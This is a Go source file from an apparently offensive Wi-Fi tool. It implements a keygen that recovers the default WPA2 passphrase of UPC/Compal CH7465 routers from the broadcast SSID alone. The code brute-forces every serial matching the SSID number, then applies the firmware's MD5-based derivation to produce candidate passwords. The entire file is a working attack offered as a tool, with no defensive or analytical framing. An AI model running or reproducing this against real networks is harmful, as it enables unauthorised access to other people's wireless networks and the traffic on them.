package keygen

import (
	"crypto/md5"
	"encoding/binary"
	"fmt"
	"strconv"

	"github.com/wifibear/keybear/pkg/wifi"
)

// UPC (Compal CH7465 and relatives) ship a WPA2 phrase derived from the
// device serial. The SSID is itself a function of the serial, so every
// serial that maps to the broadcast SSID yields one candidate.
//
// The multiply-shift constants are the compiler's division-by-constant
// sequences from the firmware and must be kept bit for bit:
// upcMagic0 divides by 23, upcMagic1 by 9999, upcMagic2 by 10^7.
const (
	upcMagic24GHz uint32 = 0xff8d8f20
	upcMagic5GHz  uint32 = 0xffd9da60

	upcMagic0 uint64 = 0xb21642c9
	upcMagic1 uint64 = 0x68de3af
	upcMagic2 uint64 = 0x6b5fca6b

	upcMax0 = 9
	upcMax1 = 99
	upcMax2 = 9
	upcMax3 = 9999
)

var upcSerialPrefixes = []string{"SAAP", "SAPP", "SBAP"}

type upcBand struct {
	magic uint32
	// reverse hashes the serial back to front (5 GHz radios).
	reverse bool
}

var (
	upcBand24GHz = upcBand{magic: upcMagic24GHz}
	upcBand5GHz  = upcBand{magic: upcMagic5GHz, reverse: true}
)

// upcSSIDCode maps serial digits onto the 7-digit SSID number. b>>31 is the
// signed-division correction the firmware applies to the 32-bit sum.
func upcSSIDCode(d [4]uint32, magic uint32) uint32 {
	a := d[1]*10 + d[2]
	b := d[0]*2500000 + a*6800 + d[3] + magic
	q := int64((uint64(b)*upcMagic2)>>54) - int64(b>>31)
	return uint32(int64(b) - q*10000000)
}

func upcMangle(pp [4]uint32) uint32 {
	a := uint32((uint64(pp[3]) * upcMagic1) >> 40)
	b := (pp[3] - a*9999 + 1) * 11
	return b * (pp[1]*100 + pp[2]*10 + pp[0])
}

func upcWords(h []byte) [4]uint32 {
	var w [4]uint32
	for i := range w {
		w[i] = uint32(binary.LittleEndian.Uint16(h[i*2:]))
	}
	return w
}

// upcHashToPass maps the first eight digest bytes onto A-Z without I, L, O.
func upcHashToPass(h []byte) string {
	pass := make([]byte, 8)
	for i := range pass {
		a := uint32(h[i]) & 0x1f
		a -= uint32((uint64(a)*upcMagic0)>>36) * 23

		a = (a & 0xff) + 0x41
		if a >= 'I' {
			a++
		}
		if a >= 'L' {
			a++
		}
		if a >= 'O' {
			a++
		}
		pass[i] = byte(a)
	}
	return string(pass)
}

// upcPassphrase computes the WPA2 phrase for one serial.
func upcPassphrase(serial string, reverse bool) string {
	input := serial
	if reverse {
		input = reverseString(serial)
	}

	h1 := md5.Sum([]byte(input))
	w1 := upcMangle(upcWords(h1[0:8]))
	w2 := upcMangle(upcWords(h1[8:16]))

	h2 := md5.Sum([]byte(fmt.Sprintf("%08X%08X", w1, w2)))
	return upcHashToPass(h2[:])
}

// upcTarget parses the number out of "UPC" + 7 digits. The number is read
// as decimal; a leading zero does not switch base.
func upcTarget(ssid string) (uint32, error) {
	digits, err := ssidSuffix(ssid, "UPC", 7, decimalDigits)
	if err != nil {
		return 0, err
	}
	n, err := strconv.ParseUint(digits, 10, 32)
	if err != nil {
		return 0, malformedSSID("%q: %v", ssid, err)
	}
	return uint32(n), nil
}

// upcSerialDigits enumerates every serial digit tuple whose SSID code is target.
func upcSerialDigits(target, magic uint32) [][4]uint32 {
	var found [][4]uint32
	var d [4]uint32
	for d[0] = 0; d[0] <= upcMax0; d[0]++ {
		for d[1] = 0; d[1] <= upcMax1; d[1]++ {
			for d[2] = 0; d[2] <= upcMax2; d[2]++ {
				for d[3] = 0; d[3] <= upcMax3; d[3]++ {
					if upcSSIDCode(d, magic) == target {
						found = append(found, d)
					}
				}
			}
		}
	}
	return found
}

func upcDerive(band upcBand) DeriveFunc {
	return func(id wifi.Identity) ([]Candidate, error) {
		target, err := upcTarget(id.SSID())
		if err != nil {
			return nil, err
		}

		digits := upcSerialDigits(target, band.magic)
		out := make([]Candidate, 0, len(digits)*len(upcSerialPrefixes))
		for _, prefix := range upcSerialPrefixes {
			for _, d := range digits {
				serial := fmt.Sprintf("%s%d%02d%d%04d", prefix, d[0], d[1], d[2], d[3])
				out = append(out, candidate(upcPassphrase(serial, band.reverse), serial))
			}
		}
		return out, nil
	}
}
